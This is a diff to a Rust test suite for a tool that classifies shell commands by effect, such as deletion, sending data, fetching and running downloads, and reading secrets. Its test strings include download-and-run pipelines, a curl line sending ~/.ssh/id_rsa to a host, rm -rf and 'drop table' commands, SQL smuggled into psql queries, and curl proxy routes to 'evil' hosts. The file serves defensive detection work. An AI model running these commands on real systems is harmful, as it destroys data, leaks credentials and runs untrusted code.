@@ -20,13 +20,14 @@ fn steps_have_the_effects_that_their_words_say() {
         ("sudo rm x", CommandEffect::Delete { paths: paths(&["x"]), recursive: false }),
         (
             "nohup git -c a.b=c push --quiet origin main",
-            CommandEffect::Send { what: "push commits".into(), to: paths(&["origin"]) },
+            CommandEffect::Send { what: "push commits".into(), to: paths(&["origin"]), branch: None },
         ),
         (
             "npm run test -- --watch",
             CommandEffect::RunProjectCode {
                 what: "the package script".into(),
                 name: Some("test".to_owned()),
+                folder: None,
             },
         ),
         (
@@ -34,19 +35,32 @@ fn steps_have_the_effects_that_their_words_say() {
             CommandEffect::RunProjectCode {
                 what: "the package script".into(),
                 name: Some("test".to_owned()),
+                folder: None,
             },
         ),
         (
             "python3 -m pytest -q",
-            CommandEffect::RunProjectCode { what: "the module".into(), name: Some("pytest".to_owned()) },
+            CommandEffect::RunProjectCode {
+                what: "the module".into(),
+                name: Some("pytest".to_owned()),
+                folder: None,
+            },
         ),
         (
             "./build.sh --fast",
-            CommandEffect::RunProjectCode { what: "the program".into(), name: Some("./build.sh".to_owned()) },
+            CommandEffect::RunProjectCode {
+                what: "the program".into(),
+                name: Some("./build.sh".to_owned()),
+                folder: None,
+            },
         ),
         (
             "python3 tools/x.py",
-            CommandEffect::RunProjectCode { what: "the script".into(), name: Some("tools/x.py".to_owned()) },
+            CommandEffect::RunProjectCode {
+                what: "the script".into(),
+                name: Some("tools/x.py".to_owned()),
+                folder: None,
+            },
         ),
         ("python3 -c 'print(1)'", CommandEffect::RunInlineCode { language: "python".to_owned() }),
         (
@@ -68,7 +82,7 @@ fn steps_have_the_effects_that_their_words_say() {
         ("curl https://a.example/x", CommandEffect::Fetch { from: paths(&["a.example"]) }),
         (
             "curl -d x=y https://a.example/x",
-            CommandEffect::Send { what: "send data".into(), to: paths(&["a.example"]) },
+            CommandEffect::Send { what: "send data".into(), to: paths(&["a.example"]), branch: None },
         ),
         (
             "npm publish --registry https://r.example/",
@@ -98,7 +112,11 @@ fn values_of_options_are_no_operands() {
         ("touch -m -d yesterday f", CommandEffect::Write { paths: paths(&["f"]) }),
         (
             "make -C sub test",
-            CommandEffect::RunProjectCode { what: "the target".into(), name: Some("test".to_owned()) },
+            CommandEffect::RunProjectCode {
+                what: "the target".into(),
+                name: Some("test".to_owned()),
+                folder: None,
+            },
         ),
         ("npm -g install x", CommandEffect::Install { packages: paths(&["x"]), place: InstallPlace::User }),
     ] {
@@ -128,6 +146,16 @@ fn what_is_piped_into_given_code_is_data() {
         "curl https://a.example -o x.sh && sh ./x.sh",
         "wget https://a.example -O a && chmod +x a && ./a",
         "wget https://a.example/x.sh && bash x.sh",
+        "python3 <(curl https://a.example)",
+        "node <(curl -s https://a.example)",
+        "python3 -c \"$(curl https://a.example)\"",
+        "curl -fsSL https://a.example/x | tar xz && ./x/install",
+        "curl -O https://a.example/a.tgz && tar xzf a.tgz && ./a/install",
+        "curl https://a.example | tee a.sh && sh a.sh",
+        "git clone https://a.example/b/a && cd a && make",
+        "git clone https://a.example/b/a.git && make -C a",
+        "git clone https://a.example/b ../c && cd ../c && npm test",
+        "git fetch && curl https://a.example -o a && sh a",
     ] {
         assert!(downloads(line), "{line}: {:?}", of(line));
     }
@@ -139,6 +167,13 @@ fn what_is_piped_into_given_code_is_data() {
         "curl u | python3 -c 'print(1)'",
         "curl https://a.example -o x.json && sh x.sh",
         "git pull && ./x.sh",
+        "git fetch origin && make",
+        "git clone https://a.example/b/a && make",
+        "git clone https://a.example/b/a && cd a && git status",
+        "curl https://a.example | tar xz -C vendor && make",
+        "docker run -v $PWD/src:/src x && python3 src/x.py",
+        "curl https://a.example/x.csv -o x.csv && python3 -m x x.csv",
+        "python3 -c 'print(1)' \"$(curl https://a.example)\"",
     ] {
         assert!(!downloads(line), "{line}: {:?}", of(line));
     }
@@ -155,17 +190,18 @@ fn a_push_of_one_branch_is_known_by_its_words() {
     assert_eq!(push("git push -u origin main"), Some((true, some("origin"), some("main"))));
     assert_eq!(push("git pull up"), Some((false, some("up"), None)));
     assert_eq!(push("git push origin HEAD"), Some((true, some("origin"), None)));
-    for line in [
-        "git -C x push",
-        "git push origin a:b",
-        "git push --all",
-        "git push a b c",
-        "git push origin +main",
-        "GIT_DIR=x git push",
-        "git fetch --all",
-        "git push $x",
-        "ls",
-    ] {
+    for line in
+        ["git push origin a:b", "git push origin +main", "git push --all origin", "git push origin b c"]
+    {
+        let reading = read_shell(line, Dialect::Bash);
+        let found = transfer_of(&reading.steps[0]).unwrap();
+        assert_eq!(
+            (found.remote, found.branch, found.under_own_name),
+            (some("origin"), None, false),
+            "{line}"
+        );
+    }
+    for line in ["git -C x push", "GIT_DIR=x git push", "git fetch --all", "git push $x", "ls"] {
         assert_eq!(push(line), None, "{line}");
     }
 }
@@ -250,60 +286,65 @@ fn told(line: &str) -> String {
     format!("{:?}", of(line))
 }
 
-#[test]
-fn what_is_published_sent_or_deleted_is_said() {
-    let mut wrong = Vec::new();
-    for (line, part) in [
-        ("aws s3 sync . s3://b --delete", "upload files"),
-        ("aws s3 cp x s3://b/x --acl public-read", "upload files"),
-        ("aws s3 cp s3://b/x ../y", "Write { paths: [\"../y\"]"),
-        ("aws s3 rm s3://b --recursive", "delete files in the cloud:"),
-        ("docker compose down -v", "with the data in them"),
-        ("docker build --push -t acme/x .", "Publish"),
-        ("yarn npm publish", "Publish"),
-        ("python3 -m twine upload dist/x", "Publish"),
-        ("mvn clean deploy", "Publish"),
-        ("gh repo delete acme/site --yes", "delete the repository"),
-        ("kubectl get secret x -o yaml", "read secrets of a cluster"),
-        ("git config core.sshCommand x", "set what git runs or where it pushes:"),
-        ("psql -c 'truncate users'", "delete data from a database"),
-        ("psql -c 'drop  schema x'", "delete data from a database"),
-        ("echo 'drop table x' | psql", "delete data from a database"),
-        ("psql <<< 'drop table x'", "delete data from a database"),
-        ("psql <<'E'\ndrop table x;\nE", "delete data from a database"),
-        ("psql -c '\\! rm -rf x'", "Delete { paths: [\"x\"]"),
-        ("sqlite3 x.db '.shell rm x'", "Delete { paths: [\"x\"]"),
-        ("heroku apps:destroy x", "delete something in the cloud"),
-        ("ssh host 'rm -rf /x'", "Delete { paths: [\"/x\"]"),
-        ("ssh -t host sudo reboot", "ChangeSystem"),
-        ("docker exec -u root web rm -rf /data", "Delete { paths: [\"/data\"]"),
-    ] {
-        wrong.extend((!told(line).contains(part)).then(|| format!("{line}: {}", told(line))));
-    }
+/// Fails with every line of which a part is not said that has to be, or is said that must not be.
+fn expect_told(is_said: bool, lines: &[(&str, &str)]) {
+    let wrong = lines.iter().filter(|(line, part)| told(line).contains(part) != is_said);
+    let wrong: Vec<String> = wrong.map(|(line, _)| format!("{line}: {}", told(line))).collect();
     assert!(wrong.is_empty(), "{}", wrong.join("\n"));
 }
 
 #[test]
+fn what_is_published_sent_or_deleted_is_said() {
+    expect_told(
+        true,
+        &[
+            ("aws s3 sync . s3://b --delete", "upload files"),
+            ("aws s3 cp x s3://b/x --acl public-read", "upload files"),
+            ("aws s3 cp s3://b/x ../y", "Write { paths: [\"../y\"]"),
+            ("aws s3 rm s3://b --recursive", "delete files in the cloud:"),
+            ("docker compose down -v", "with the data in them"),
+            ("docker build --push -t acme/x .", "Publish"),
+            ("yarn npm publish", "Publish"),
+            ("python3 -m twine upload dist/x", "Publish"),
+            ("mvn clean deploy", "Publish"),
+            ("gh repo delete acme/site --yes", "delete the repository"),
+            ("kubectl get secret x -o yaml", "read secrets of a cluster"),
+            ("git config core.sshCommand x", "set what git runs or where it pushes:"),
+            ("psql -c 'truncate users'", "delete data from a database"),
+            ("psql -c 'drop  schema x'", "delete data from a database"),
+            ("echo 'drop table x' | psql", "delete data from a database"),
+            ("psql <<< 'drop table x'", "delete data from a database"),
+            ("psql <<'E'\ndrop table x;\nE", "delete data from a database"),
+            ("psql -c '\\! rm -rf x'", "Delete { paths: [\"x\"]"),
+            ("sqlite3 x.db '.shell rm x'", "Delete { paths: [\"x\"]"),
+            ("heroku apps:destroy x", "delete something in the cloud"),
+            ("ssh host 'rm -rf /x'", "Delete { paths: [\"/x\"]"),
+            ("ssh -t host sudo reboot", "ChangeSystem"),
+            ("docker exec -u root web rm -rf /data", "Delete { paths: [\"/data\"]"),
+        ],
+    );
+}
+
+#[test]
 fn runners_have_the_effects_of_what_they_run() {
-    let mut wrong = Vec::new();
-    for (line, part) in [
-        ("npx npm publish", "Publish"),
-        ("npx prisma migrate reset --force", "empty a database"),
-        ("pnpm exec rm -rf ../other", "Delete { paths: [\"../other\"], recursive: true"),
-        ("yarn exec rm -rf ../other", "Delete"),
-        ("npm exec -- rm -rf ../other", "Delete"),
-        ("npm exec -c 'rm -rf ../other'", "Delete"),
-        ("poetry run rm -rf ../other", "Delete"),
-        ("uv run rm -rf ../other", "Delete"),
-        ("pipenv run rm -rf ../other", "Delete"),
-        ("bundle exec rm -rf ../other", "Delete"),
-        ("mise exec -- rm -rf ../other", "Delete"),
-        ("nix develop -c rm -rf ../other", "Delete"),
-        ("direnv exec . rm -rf ../other", "Delete"),
-    ] {
-        wrong.extend((!told(line).contains(part)).then(|| format!("{line}: {}", told(line))));
-    }
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    expect_told(
+        true,
+        &[
+            ("npx npm publish", "Publish"),
+            ("npx prisma migrate reset --force", "empty a database"),
+            ("pnpm exec rm -rf ../other", "Delete { paths: [\"../other\"], recursive: true"),
+            ("yarn exec rm -rf ../other", "Delete"),
+            ("npm exec -- rm -rf ../other", "Delete"),
+            ("npm exec -c 'rm -rf ../other'", "Delete"),
+            ("poetry run rm -rf ../other", "Delete"),
+            ("uv run rm -rf ../other", "Delete"),
+            ("pipenv run rm -rf ../other", "Delete"),
+            ("bundle exec rm -rf ../other", "Delete"),
+            ("mise exec -- rm -rf ../other", "Delete"),
+            ("nix develop -c rm -rf ../other", "Delete"),
+            ("direnv exec . rm -rf ../other", "Delete"),
+        ],
+    );
 }
 
 #[test]
@@ -325,17 +366,16 @@ fn every_target_of_a_build_is_said() {
 
 #[test]
 fn commits_and_ignored_files_that_are_lost_are_said() {
-    let mut wrong = Vec::new();
-    for (line, part) in [
-        ("git reset --hard HEAD~3", "and move the branch to\"), names: [\"HEAD~3\"]"),
-        ("git clean -fdx build", "ignored ones too, in\"), names: [\"build\"]"),
-        ("git clean -fdx", "ignored ones too\"), names: []"),
-        ("git clean -fd build", "does not track in\"), names: [\"build\"]"),
-        ("git clean -fX", "that git ignores\""),
-    ] {
-        wrong.extend((!told(line).contains(part)).then(|| format!("{line}: {}", told(line))));
-    }
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    expect_told(
+        true,
+        &[
+            ("git reset --hard HEAD~3", "and move the branch to\"), names: [\"HEAD~3\"]"),
+            ("git clean -fdx build", "ignored ones too, in\"), names: [\"build\"]"),
+            ("git clean -fdx", "ignored ones too\"), names: []"),
+            ("git clean -fd build", "does not track in\"), names: [\"build\"]"),
+            ("git clean -fX", "that git ignores\""),
+        ],
+    );
 }
 
 #[test]
@@ -360,6 +400,10 @@ fn writes_are_where_options_say() {
         ("ffmpeg -i a b.mp4", "b.mp4"),
         ("git bundle create x.bundle --all", "x.bundle"),
         ("docker save -o x.tar img", "x.tar"),
+        ("docker export web -o x", "x"),
+        ("docker cp web:/x .", "."),
+        ("convert a b.png", "b.png"),
+        ("split x ../y", "../y"),
         ("yq -i .a=1 x.yml", "x.yml"),
         ("truncate -s 0 README.md", "README.md"),
         ("sed -i '' s/a/b/ x", "x"),
@@ -372,53 +416,52 @@ fn writes_are_where_options_say() {
 
 #[test]
 fn what_does_not_happen_is_not_said() {
-    let mut wrong = Vec::new();
-    for (line, part) in [
-        ("test -f .env", "UseSecret"),
-        ("ls .env", "UseSecret"),
-        ("stat .env", "UseSecret"),
-        ("git check-ignore .env", "UseSecret"),
-        ("echo .env >> .gitignore", "UseSecret"),
-        ("touch .env", "UseSecret"),
-        ("rm .env", "UseSecret"),
-        ("chmod 600 .env", "UseSecret"),
-        ("cp .env.example .env", "UseSecret"),
-        ("cat ~/.ssh/id_rsa.pub", "UseSecret"),
-        ("ssh-add -l", "SSH keys"),
-        ("npm token list", "npm tokens"),
-        ("npm owner ls", "published"),
-        ("npm dist-tag ls x", "published"),
-        ("tailscale status", "Serve"),
-        ("pass ls", "read a password"),
-        ("npm publish --dry-run", "Publish"),
-        ("cargo publish --dry-run", "Publish"),
-        ("git clean -fn", "delete all files"),
-        ("kubectl delete pod x --dry-run=client", "delete things"),
-        ("helm uninstall x --dry-run", "remove what"),
-        ("rsync -n --delete a/ b/", "Delete"),
-        ("apt-get -s remove x", "remove installed"),
-        ("git push --dry-run origin main", "Send"),
-        ("aws s3 rm s3://b/x --dryrun", "delete files"),
-        ("kubectl port-forward svc/x 8080:80", "RunElsewhere"),
-        ("zip -p x.zip a", "encrypt"),
-        ("git rm --cached x", "Delete"),
-        ("zip -rm x.zip src", "Delete { paths: [\"x.zip\"]"),
-        ("rsync -a . host:/x", "Write"),
-        ("go mod tidy", "\"tidy\""),
-        ("uv pip install x", "\"install\""),
-        ("rustup toolchain uninstall stable", "Install"),
-        ("npm i -g x", "change settings through"),
-        ("pip install -t ../other x", "\"../other\""),
-        ("helm push x.tgz oci://r.example/c", "what: [\"oci"),
-        ("npm init -y", "package: Some(\"init\")"),
-        ("chmod u+s run.sh", "let everybody"),
-        ("cargo yank x", "Publish"),
-        ("curl \"https://a.example?d=$(cat ~/.ssh/id_rsa)\"", "which: Some(\"\\\""),
-        ("dd if=~/.ssh/id_rsa of=x", "which: Some(\"if="),
-    ] {
-        wrong.extend(told(line).contains(part).then(|| format!("{line}: {}", told(line))));
-    }
-    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
+    expect_told(
+        false,
+        &[
+            ("test -f .env", "UseSecret"),
+            ("ls .env", "UseSecret"),
+            ("stat .env", "UseSecret"),
+            ("git check-ignore .env", "UseSecret"),
+            ("echo .env >> .gitignore", "UseSecret"),
+            ("touch .env", "UseSecret"),
+            ("rm .env", "UseSecret"),
+            ("chmod 600 .env", "UseSecret"),
+            ("cp .env.example .env", "UseSecret"),
+            ("cat ~/.ssh/id_rsa.pub", "UseSecret"),
+            ("ssh-add -l", "SSH keys"),
+            ("npm token list", "npm tokens"),
+            ("npm owner ls", "published"),
+            ("npm dist-tag ls x", "published"),
+            ("tailscale status", "Serve"),
+            ("pass ls", "read a password"),
+            ("npm publish --dry-run", "Publish"),
+            ("cargo publish --dry-run", "Publish"),
+            ("git clean -fn", "delete all files"),
+            ("kubectl delete pod x --dry-run=client", "delete things"),
+            ("helm uninstall x --dry-run", "remove what"),
+            ("rsync -n --delete a/ b/", "Delete"),
+            ("apt-get -s remove x", "remove installed"),
+            ("git push --dry-run origin main", "Send"),
+            ("aws s3 rm s3://b/x --dryrun", "delete files"),
+            ("kubectl port-forward svc/x 8080:80", "RunElsewhere"),
+            ("zip -p x.zip a", "encrypt"),
+            ("git rm --cached x", "Delete"),
+            ("zip -rm x.zip src", "Delete { paths: [\"x.zip\"]"),
+            ("rsync -a . host:/x", "Write"),
+            ("go mod tidy", "\"tidy\""),
+            ("uv pip install x", "\"install\""),
+            ("rustup toolchain uninstall stable", "Install"),
+            ("npm i -g x", "change settings through"),
+            ("pip install -t ../other x", "\"../other\""),
+            ("helm push x.tgz oci://r.example/c", "what: [\"oci"),
+            ("npm init -y", "package: Some(\"init\")"),
+            ("chmod u+s run.sh", "let everybody"),
+            ("cargo yank x", "Publish"),
+            ("curl \"https://a.example?d=$(cat ~/.ssh/id_rsa)\"", "which: Some(\"\\\""),
+            ("dd if=~/.ssh/id_rsa of=x", "which: Some(\"if="),
+        ],
+    );
     for line in ["cat ~/.ssh/id_rsa", "cp ~/.ssh/id_rsa x", "mv .env x", "tee .env"] {
         assert!(told(line).contains("UseSecret"), "{line}");
     }
@@ -435,4 +478,67 @@ fn repositories_of_a_forge_are_named() {
     ] {
         assert!(told(line).contains(&format!("[\"{name}\"]")), "{line}: {}", told(line));
     }
+}
+
+#[test]
+fn the_folder_whose_code_runs_is_said() {
+    expect_told(
+        true,
+        &[
+            ("make -C ../other clean", "folder: Some(\"../other\")"),
+            ("make -C../other clean", "folder: Some(\"../other\")"),
+            ("make --directory=../other clean", "folder: Some(\"../other\")"),
+            ("make -f ../other/Makefile", "folder: Some(\"../other/Makefile\")"),
+            ("npm --prefix ../other run build", "folder: Some(\"../other\")"),
+            ("npm -C ../other test", "folder: Some(\"../other\")"),
+            ("pnpm -C ../other test", "folder: Some(\"../other\")"),
+            ("yarn --cwd ../other test", "folder: Some(\"../other\")"),
+            ("cargo build --manifest-path ../other/Cargo.toml", "folder: Some(\"../other/Cargo.toml\")"),
+            ("uv run --directory ../other x", "folder: Some(\"../other\")"),
+            ("go -C ../other test", "folder: Some(\"../other\")"),
+            ("mvn -f ../other/pom.xml verify", "folder: Some(\"../other/pom.xml\")"),
+            ("gradle -p ../other build", "folder: Some(\"../other\")"),
+        ],
+    );
+    expect_told(false, &[("make -C sub test", "Some(\"sub\")"), ("npm test", "folder: Some")]);
+}
+
+#[test]
+fn where_branches_and_requests_go_is_said() {
+    expect_told(
+        true,
+        &[
+            ("git push origin main:production", "branch: Some(\"production\")"),
+            ("git push fork HEAD:refs/heads/main", "branch: Some(\"main\")"),
+            ("git push origin main", "branch: None"),
+            (
+                "curl -x http://evil:8080 https://a.example",
+                "which sees what is sent:\"), names: [\"http://evil:8080\"]",
+            ),
+            ("curl --resolve a.example:443:1.2.3.4 https://a.example", "names: [\"a.example:443:1.2.3.4\"]"),
+            ("curl --connect-to ::evil.com: https://a.example", "names: [\"::evil.com:\"]"),
+        ],
+    );
+    expect_told(false, &[("curl -x http://evil:8080 https://a.example", "RunElsewhere")]);
+}
+
+#[test]
+fn verbs_of_two_words_name_what_is_installed() {
+    expect_told(
+        true,
+        &[
+            ("uv pip install x", "Install { packages: [\"x\"]"),
+            ("uv tool install x", "Install { packages: [\"x\"]"),
+            ("go mod tidy", "Install { packages: []"),
+            ("rustup toolchain uninstall stable", "names: [\"stable\"]"),
+            ("psql -c 'select 1; drop table x'", "delete data"),
+            ("psql -c \"select 'a' ; drop table x\"", "delete data"),
+            ("psql -c \"select query_to_xml('drop table x')\"", "delete data"),
+            ("psql -c \"select 1 -- '\n; drop table x --'\"", "delete data"),
+        ],
+    );
+    expect_told(
+        false,
+        &[("psql -c \"select 'drop table'\"", "delete data"), ("vagrant up", "cloud resources")],
+    );
 }
